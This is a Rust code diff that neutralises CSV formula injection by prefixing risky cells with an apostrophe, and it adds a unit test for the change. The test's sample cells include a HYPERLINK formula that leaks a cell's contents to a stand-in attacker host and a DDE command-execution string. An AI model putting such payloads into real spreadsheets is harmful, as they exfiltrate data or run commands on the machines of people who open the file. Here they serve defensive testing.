@@ -203,12 +203,22 @@ pub fn programmes_csv(config: &Config, sources: &Sources, plan: &Plan) -> Output
     }
 }
 
-/// RFC 4180: fields with a comma, quote or line break are quoted.
+/// RFC 4180: fields with a comma, quote or line break are quoted. A field
+/// that a spreadsheet would take as a formula (it starts with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return) gets a leading `'`, as OWASP advises, so
+/// that opening the file never runs anything.
 fn push_row(out: &mut String, fields: &[String]) {
     for (i, f) in fields.iter().enumerate() {
         if i > 0 {
             out.push(',');
         }
+        let neutral;
+        let f = if f.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+            neutral = format!("'{f}");
+            &neutral
+        } else {
+            f
+        };
         if f.contains([',', '"', '\n', '\r']) {
             out.push('"');
             out.push_str(&f.replace('"', "\"\""));
@@ -229,5 +239,25 @@ mod tests {
         let mut s = String::new();
         push_row(&mut s, &["a".into(), "b,c".into(), "say \"hi\"".into()]);
         assert_eq!(s, "a,\"b,c\",\"say \"\"hi\"\"\"\r\n");
+    }
+
+    #[test]
+    fn csv_cells_never_start_a_formula() {
+        let mut s = String::new();
+        let cells = [
+            "=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Klik\")",
+            "+cmd|' /C calc'!A0",
+            "@SUM(1+1)",
+            "-2+3",
+            "\tx",
+            "\rx",
+            "ok",
+        ];
+        push_row(&mut s, &cells.map(String::from));
+        let fields: Vec<&str> = s.trim_end().split(',').collect();
+        assert!(s.starts_with("\"'=HYPERLINK("), "{s}");
+        assert!(s.contains(",'+cmd|' /C calc'!A0,'@SUM(1+1),'-2+3,"), "{s}");
+        assert!(s.contains("'\tx"), "{s:?}");
+        assert!(fields.last() == Some(&"ok"));
     }
 }
